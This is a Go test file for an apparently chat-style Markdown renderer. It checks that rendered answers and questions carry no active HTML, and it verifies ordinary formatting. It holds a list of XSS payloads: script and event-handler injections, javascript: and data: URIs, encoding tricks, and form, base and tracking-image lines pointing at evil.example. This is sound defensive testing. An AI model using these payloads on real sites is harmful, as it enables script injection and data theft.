package markdown

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// TestNothingActiveReachesThePage feeds what attacks are made of, as Markdown of every kind and nested in the others.
func TestNothingActiveReachesThePage(t *testing.T) {
	vectors := []string{
		`<script>alert(1)</script>`,
		`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
		`<img src=x onerror=alert(1)>`,
		`<svg onload=alert(1)><script>alert(1)</script></svg>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<a href="javascript:alert(1)">x</a>`,
		`[x](javascript:alert(1))`,
		`[x](JaVaScRiPt:alert(1))`,
		"[x](java\nscript:alert(1))",
		"[x](java&#x0A;script:alert(1))",
		`[x](&#106;avascript:alert(1))`,
		`[x](data:text/html;base64,PHNjcmlwdD4=)`,
		`[x](vbscript:msgbox(1))`,
		`[x](/c/123/delete)`,
		`[x](//evil.example)`,
		`![x](javascript:alert(1))`,
		`![x](data:image/svg+xml;base64,PHN2Zz4=)`,
		`![x"onerror="alert(1)](https://evil.example/x.png)`,
		`![](https://evil.example/track.gif?q=secret)`,
		`[x](https://a.example "t\" onmouseover=\"alert(1)")`,
		`<https://a.example/"onclick=alert(1)>`,
		`<javascript:alert(1)>`,
		"`<script>alert(1)</script>`",
		"```html\n<script>alert(1)</script>\n```",
		"```\"><script>alert(1)</script>\nx\n```",
		"```go\" onload=alert(1)\nx\n```",
		"    <script>alert(1)</script>",
		`<style>*{display:none}</style>`,
		`<form action=//evil.example><button>x</button></form>`,
		`<base href=//evil.example>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<!--><img src=x onerror=alert(1)>-->`,
		`<![CDATA[<script>alert(1)</script>]]>`,
		`<?php <script>alert(1)</script> ?>`,
		`<div style="position:fixed" class="composer" id="message">x</div>`,
		`[r]` + "\n\n[r]: javascript:alert(1)\n",
		`| <img src=x onerror=alert(1)> |` + "\n|---|\n| [x](javascript:1) |\n",
		"\x00<script\x00>alert(1)</script>",
		`&lt;script&gt;alert(1)&lt;/script&gt;`,
	}
	wraps := []string{
		"%", "> %", "- %", "1. a\n\n   %", "# %", "**%**", "| a |\n|---|\n| % |\n", "text %",
		"[%](https://a.example)",
	}
	r := New()
	for _, v := range vectors {
		for _, w := range wraps {
			src := strings.ReplaceAll(w, "%", v)
			for name, out := range map[string]string{"answer": string(r.Answer(src)), "question": string(r.Question(src))} {
				if bad := active(out); bad != "" {
					t.Errorf("%s of %q has %s:\n%s", name, src, bad, out)
				}
			}
		}
	}
}

var allowedElements = regexp.MustCompile(`^(p|br|hr|h[3-6]|em|strong|del|blockquote|ul|ol|li|` +
	`code|pre|table|thead|tbody|tr|th|td|div|span|button|input|a)$`)

// active says what in the fragment could act, load or restyle; "" when nothing can. It does not share the renderer's
// allow-list.
func active(fragment string) string {
	z := html.NewTokenizer(strings.NewReader(fragment))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.CommentToken, html.DoctypeToken:
			return "a comment"
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			if !allowedElements.MatchString(tok.Data) {
				return "<" + tok.Data + ">"
			}
			for _, a := range tok.Attr {
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "id", a.Key == "src", a.Key == "srcset",
					a.Key == "action", a.Key == "formaction":
					return "attribute " + a.Key
				case a.Key == "href" && !regexp.MustCompile(`^(https?://|mailto:)`).MatchString(strings.ToLower(a.Val)):
					return "href " + a.Val
				case a.Key == "class" && strings.Contains(a.Val, "composer"):
					return "class " + a.Val
				case a.Key == "type" && a.Val == "submit":
					return "a submit button"
				}
			}
			if tok.Data == "a" {
				href, rel := attr(tok, "href"), attr(tok, "rel")
				unsafe := !strings.Contains(rel, "nofollow") ||
					strings.HasPrefix(href, "http") && !strings.Contains(rel, "noopener")
				if href != "" && unsafe {
					return "a link with rel " + rel
				}
			}
		}
	}
}

func attr(t html.Token, key string) string {
	for _, a := range t.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func TestAnswer(t *testing.T) {
	r := New()
	for _, tt := range []struct{ name, src, want string }{
		{"paragraph", "a *b* **c** ~~d~~", "<p>a <em>b</em> <strong>c</strong> <del>d</del></p>\n"},
		{"soft break", "a\nb", "<p>a\nb</p>\n"},
		{"headings move down", "# a\n\n#### b", "<h3>a</h3>\n<h6>b</h6>\n"},
		{"raw html is text", "x <b>y</b>", "<p>x &lt;b&gt;y&lt;/b&gt;</p>\n"},
		{"html block is text", "<div>\nx\n</div>", "<p class=\"raw\">&lt;div&gt;\nx\n&lt;/div&gt;</p>\n"},
		{"br", "a<br>b<BR />c", "<p>a<br>b<br>c</p>\n"},
		{
			"image is a link",
			"![A cat](https://a.example/c.png)",
			`<p><a class="image" href="https://a.example/c.png" ` +
				`rel="nofollow noreferrer noopener" target="_blank">A cat</a>` +
				`<span class="target"> (https://a.example/c.png)</span></p>` + "\n",
		},
		{
			"link", "[https://a.example](https://b.example/?q=a&b \"t\")",
			`<p><a href="https://b.example/?q=a&amp;b" title="t" rel="nofollow noreferrer noopener" ` +
				`target="_blank">https://a.example</a><span class="target"> ` +
				`(https://b.example/?q=a&amp;b)</span></p>` + "\n",
		},
		{
			"link by its address", "[https://a.example](https://a.example)",
			`<p><a href="https://a.example" rel="nofollow noreferrer noopener" ` +
				`target="_blank">https://a.example</a></p>` + "\n",
		},
		{"link that is none", "[x](javascript:alert(1))", "<p>x</p>\n"},
		{"no sources", "a [1]", "<p>a [1]</p>\n"},
		{
			"bare link",
			"see www.example.com",
			`<p>see <a href="http://www.example.com" rel="nofollow noreferrer noopener" ` +
				`target="_blank">www.example.com</a></p>` + "\n",
		},
		{
			"task list",
			"- [x] a\n- [ ] b",
			"<ul>\n<li><input checked=\"\" disabled=\"\" type=\"checkbox\"> a</li>\n" +
				"<li><input disabled=\"\" type=\"checkbox\"> b</li>\n</ul>\n",
		},
		{"ordered from", "3. a", "<ol start=\"3\">\n<li>a</li>\n</ol>\n"},
		{
			"table",
			"|a|\n|:-:|\n|b|",
			"<table>\n<thead>\n<tr>\n<th align=\"center\">a</th>\n</tr>\n</thead>\n" +
				"<tbody>\n<tr>\n<td align=\"center\">b</td>\n</tr>\n</tbody>\n</table>\n",
		},
		{
			"code",
			"```go\nx := \"<\"\n```",
			`<div class="code"><div class="code-head"><span class="code-lang">go</span>` +
				`<button type="button" class="copy">Copy</button></div><pre tabindex="0"><code>` +
				`x := <span class="s">&#34;&lt;&#34;</span>` + "\n</code></pre></div>\n",
		},
		{
			"code of no known language",
			"```nosuch\n<x>\n```",
			`<div class="code"><div class="code-head"><span class="code-lang">nosuch</span>` +
				`<button type="button" class="copy">Copy</button></div><pre tabindex="0"><code>` +
				"&lt;x&gt;\n</code></pre></div>\n",
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := string(r.Answer(tt.src)); got != tt.want {
				t.Errorf("Answer(%q)\n got %s\nwant %s", tt.src, got, tt.want)
			}
		})
	}
	if got := string(r.Question("a\nb")); got != "<p>a<br>\nb</p>\n" {
		t.Errorf("Question keeps line breaks: %q", got)
	}
}
